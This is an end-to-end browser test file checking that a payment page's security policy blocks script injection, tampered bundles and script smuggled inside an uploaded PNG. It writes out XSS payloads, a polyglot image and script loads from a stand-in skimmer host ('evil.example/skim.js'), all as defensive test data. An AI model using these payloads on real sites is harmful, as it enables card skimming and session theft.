import { readFileSync } from 'node:fs'
import { downloadOriginal, getApplication } from '#contract/endpoints/review.ts'
import { expect, test } from '#test/support/e2e.ts'
import { SAMPLES } from '#test/support/sample-files.ts'
import { openAccount } from '#test/support/seed/account.ts'
import { callAsAdmin } from '#test/support/seed/administrator.ts'
import { signIn } from '#test/support/seed/browser-session.ts'
import { seed } from '#test/support/seed/customer.ts'
import { newPerson } from '#test/support/seed/people.ts'
import { LandingPage } from './pages/landing-page.ts'
import { answerRecommendation } from './support/recommendation.ts'

test('the page of the cards takes no text as a script, runs no script of another site, and the browser reports it', async ({
  page,
  context,
  world,
  allowOnConsole,
}) => {
  allowOnConsole(/Content Security Policy|'Trusted(?:HTML|ScriptURL|Script)' assignment/)
  const { person } = await openAccount(world, newPerson('individual'))
  await answerRecommendation(context)
  await signIn(context, world, person)
  await page.goto('/managePayment')
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible()

  const thrown = await page.evaluate(() =>
    [
      () => document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.ran = 1">'),
      () => new Worker('https://evil.example/worker.js'),
      () => {
        document.createElement('script').src = '//evil.example/skim.js'
      },
      () => {
        document.createElement('script').text = 'window.ran = 1'
      },
      () => document.body.setAttribute('onclick', 'window.ran = 1'),
    ].map((attack) => {
      try {
        attack()
        return 'done'
      } catch (error) {
        return (error as Error).name
      }
    }),
  )
  expect(new Set(thrown)).toEqual(new Set(['TypeError']))
  const metrics = async () => (await fetch(`${world.appUrl}/metrics`)).text()
  await expect.poll(metrics).toMatch(/route="\/reports\/policy"[^\n]*status="204"/)
})

test('a browser refuses a script that was changed on its way', async ({ page, allowOnConsole }) => {
  allowOnConsole(/integrity/)
  await page.route('**/assets/index-*.js', async (route) => {
    const answer = await route.fetch()
    await route.fulfill({ response: answer, body: `window.changed = 1;${await answer.text()}` })
  })
  const refused = page.waitForEvent('console', (message) => message.text().includes('integrity'))
  await new LandingPage(page).open()
  await refused
  expect(await page.evaluate(() => 'changed' in window)).toBe(false)
})

test('a script after the end of a picture never runs, not even when the file arrives as a page', async ({
  page,
  world,
  allowOnConsole,
}) => {
  allowOnConsole(/sandbox|MIME type|Blocked script execution|ERR_ABORTED/)
  const script = '<script>window.ran = 1; document.title = "ran"</script>'
  const smuggled = Buffer.concat([SAMPLES.png, Buffer.from(script)])
  const { current } = await seed(world, 'billing-email', newPerson('business'), {
    address: new File([new Uint8Array(smuggled)], 'address.png', { type: 'image/png' }),
  })
  const { id: customerId } = await current()
  const asAdmin = await callAsAdmin(world)
  const { application } = await asAdmin(getApplication, { params: { customerId } })
  const documentId = application.documents.find(({ documentType }) => documentType === 'address')?.id ?? ''
  const { url } = await asAdmin(downloadOriginal, { params: { customerId, documentId } })

  const saved = page.waitForEvent('download')
  await page.goto(url).catch(() => undefined)
  expect(readFileSync(await (await saved).path()).equals(smuggled)).toBe(true)

  await page.goto('/')
  expect(await page.evaluate((file) => import(file).catch((error: Error) => error.name), url)).toBe(
    'TypeError',
  )

  for (const type of ['text/html', 'image/svg+xml']) {
    const body = type === 'text/html' ? script : `<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`
    await page.route(url, async (route) => {
      const answer = await route.fetch()
      const { 'content-disposition': _, ...headers } = answer.headers()
      await route.fulfill({ status: 200, headers: { ...headers, 'content-type': type }, body })
    })
    await page.goto(url)
    expect(await page.evaluate(() => [window.origin, 'ran' in window])).toEqual(['null', false])
    await page.unroute(url)
  }
})
